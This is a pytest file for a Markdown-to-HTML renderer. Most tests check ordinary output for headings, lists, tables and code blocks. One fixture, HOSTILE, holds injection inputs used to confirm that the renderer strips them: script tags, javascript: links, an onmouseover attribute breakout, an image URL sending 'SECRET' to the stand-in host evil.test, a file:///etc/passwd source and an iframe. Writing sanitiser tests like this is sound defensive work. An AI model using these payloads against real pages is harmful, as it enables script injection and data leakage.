"""HTML of our own making."""

import re

import pytest

from app.render.markdown.parser import parse
from app.render.output.html import html_of, page
from app.render.tree import Mark, Note, Paragraph, Quote, Remark, Run, Summary

HOSTILE = """\
<script>alert(1)</script> ![x](https://evil.test/p.png?d=SECRET) [a](javascript:alert(1))

[b](<https://ok.test/?a="onmouseover=alert(1)>) &lt;b&gt; <img src=file:///etc/passwd>

`<style>` "quoted"

```html
</code></pre><script>x</script>
```

| <b> | " |
|---|---|
| <iframe src=//evil.test> | x |
"""


def html(source):
    return html_of(parse(source))


@pytest.mark.parametrize(
    ("source", "wanted"),
    [
        ("# A\n\n###### B", "<h1>A</h1>\n<h6>B</h6>\n"),
        ("a **b** *c* ~~d~~", "<p>a <b>b</b> <i>c</i> <s>d</s></p>\n"),
        ("`x`", "<p><code>x</code></p>\n"),
        ("a\nb", "<p>a<br>b</p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a\n\n4. b", '<ol start="3">\n<li><p>a</p></li>\n<li><p>b</p></li>\n</ol>\n'),
        ("- [x] a\n- [ ] b", "<ul>\n<li>\u2611 a</li>\n<li>\u2610 b</li>\n</ul>\n"),
        ("- a\n  - b", "<ul>\n<li>a\n<ul>\n<li>b</li>\n</ul>\n</li>\n</ul>\n"),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>\n"),
        ("---", "<hr>\n"),
        ("```py\nif a < b:\n\tc\n```", "<pre><code>if a &lt; b:\n\tc</code></pre>\n"),
        ("[a](https://x.test/?a=1&b=2)", '<p><a href="https://x.test/?a=1&amp;b=2">a</a></p>\n'),
    ],
)
def test_every_block_has_its_element(source, wanted):
    assert html(source) == wanted


def test_a_table_keeps_its_sides_and_header():
    assert html("| a | b |\n|:-:|--:|\n| **1** | 2 |") == (
        '<table border="1" cellspacing="0" cellpadding="4">\n'
        '<tr><th align="center">a</th><th align="right">b</th></tr>\n'
        '<tr><td align="center"><b>1</b></td><td align="right">2</td></tr>\n'
        "</table>\n"
    )


def test_foreign_text_can_make_no_element_and_no_attribute():
    made = html(HOSTILE)
    tags = set(re.findall(r"</?([a-z0-9]+)", made))
    assert tags <= {"p", "a", "pre", "code", "table", "tr", "th", "td", "br"}
    attributes = set(re.findall(r'<[a-z]+[^>]*?\s([a-z]+)="', made))
    assert attributes <= {"href", "border", "cellspacing", "cellpadding", "align"}
    assert set(re.findall(r'href="([a-z]+):', made)) <= {"https"}
    assert "evil.test/p.png" not in made


def test_what_facet_or_a_footnote_says_is_there_too():
    inner = (Paragraph((Run("x", Mark.SUBSCRIPT), Run("y", Mark.KEY))),)
    assert html_of((Remark("3 more rows"),)) == "<p><i>3 more rows</i></p>\n"
    assert "<p><b>Tip</b></p>\n<p><sub>x</sub><kbd>y</kbd></p>" in html_of((Quote(inner, "tip"),))
    assert html_of((Note("<1>", inner),)).startswith("<p><sup>&lt;1&gt;</sup></p>")


def test_a_page_says_its_encoding():
    assert '<meta charset="utf-8">' in page("<p>\u00e9</p>\n")


def test_the_title_of_a_foldable_part():
    assert (
        html_of((Summary((Run("Hint"),)), Summary(())))
        == "<p><b>Hint</b></p>\n<p><b>Details</b></p>\n"
    )
